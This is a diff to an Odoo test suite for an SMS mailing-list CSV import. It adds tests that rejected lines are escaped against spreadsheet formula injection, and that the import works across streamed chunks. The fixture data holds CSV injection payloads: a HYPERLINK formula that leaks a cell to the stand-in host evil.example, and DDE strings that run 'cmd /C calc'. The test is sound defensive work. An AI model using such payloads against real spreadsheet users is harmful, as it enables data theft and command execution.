@@ -4,6 +4,7 @@ import csv
 import io
 import logging
 import time
+from unittest.mock import patch
 
 from odoo.exceptions import AccessError, UserError
 from odoo.tests import Form, TransactionCase, tagged
@@ -149,7 +150,7 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
                 ["4", "hello", "not a phone number"],
                 ["5", "06 12", "invalid number for France"],
                 ["6", "0612345678", "duplicate of line 1"],
-                ["9", "+999 123 456", "unknown international prefix"],
+                ["9", "'+999 123 456", "unknown international prefix"],  # no formula (OWASP)
             ],
         )
         self.assertEqual(wizard.rejected_attachment_id.res_model, "mailing.list")
@@ -312,6 +313,74 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
                 with self.assertRaisesRegex(UserError, message):
                     wizard.action_preview()
         self.assertFalse(self._list_numbers())
+
+    def test_rejected_lines_neutralise_formulas(self):
+        """An attacker's file: its rejected lines, opened by the marketer in a spreadsheet, run
+        nothing (OWASP CSV injection)."""
+        content = "\n".join(
+            [
+                "number;name;country",
+                "06 12 34 56 78;Ada;",  # 2 valid
+                '=HYPERLINK("http://evil.example/?leak="&A1,"Click me");Eve;',  # 3
+                "@SUM(1+1)*cmd|' /C calc'!A0;Eve;",  # 4
+                "-2+3+cmd|' /C calc'!A0;Eve;",  # 5
+                "+33 6 12 34 56 78;Bob;",  # 6 duplicate of line 2, starts with "+"
+                "\t=1+1;Eve;",  # 7 a tab, then a formula
+                "06 12 34 56 79;Eve;=cmd",  # 8 unknown country
+            ]
+        )
+        wizard = self._wizard(content)
+        wizard.action_import()
+        self.assertEqual(self._list_numbers(), {"+33612345678"})
+        rows = self._rejected_rows(wizard)
+        self.assertEqual(
+            rows,
+            [
+                ["line", "value", "reason"],
+                ["3", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "not a phone number"],
+                ["4", "'@SUM(1+1)*cmd|' /C calc'!A0", "not a phone number"],
+                ["5", "'-2+3+cmd|' /C calc'!A0", "not a phone number"],
+                ["6", "'+33 6 12 34 56 78", "duplicate of line 2"],
+                ["7", "'=1+1", "not a phone number"],
+                ["8", "06 12 34 56 79", "unknown country “=cmd”"],
+            ],
+        )
+        for row in rows:
+            for cell in row:
+                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r}")
+
+    def test_streamed_in_chunks(self):
+        """Duplicates, rejected lines and existing contacts are found across the chunks the file is
+        streamed in, and the rejected lines come out complete and in file order."""
+        from ..wizard import mailing_list_sms_import as module
+
+        existing = self.env["mailing.contact"].create({"name": "Known", "mobile": "+33600000004"})
+        lines = []
+        for index in range(23):
+            if index % 5 == 2:
+                lines.append(f"bad {index}")
+            elif index % 7 == 6:
+                lines.append(french_mobile(index - 5))  # a duplicate of an earlier line (maybe another chunk)
+            else:
+                lines.append(french_mobile(index))
+        content = "\n".join(lines)
+        bad = [str(index + 1) for index in range(23) if index % 5 == 2]
+        duplicates = [str(index + 1) for index in range(23) if index % 5 != 2 and index % 7 == 6]
+        self.assertEqual((len(bad), len(duplicates)), (5, 3))
+        with patch.object(module, "SQL_CHUNK", 4), patch.object(module, "FETCH_CHUNK", 3), \
+                patch.object(module, "PREVIEW_REJECTED", 2):
+            wizard = self._wizard(content)
+            wizard.action_preview()
+            self.assertIn("and 6 more", wizard.preview_html)
+            wizard.action_import()
+        rejected = [row[0] for row in self._rejected_rows(wizard)[1:]]
+        self.assertEqual(rejected, sorted(bad + duplicates, key=int))
+        self.assertEqual((wizard.rejected_count, wizard.duplicate_count), (len(bad), len(duplicates)))
+        valid = {f"+336{french_mobile(index)[3:].replace(' ', '')}" for index in range(23)
+                 if index % 5 != 2 and index % 7 != 6}
+        self.assertEqual(self._list_numbers(), valid)
+        self.assertEqual(wizard.created_count, len(valid) - 1, "the known contact is reused")
+        self.assertIn(existing, self.mailing_list.subscription_ids.contact_id)
 
     def test_access(self):
         with self.assertRaises(AccessError):
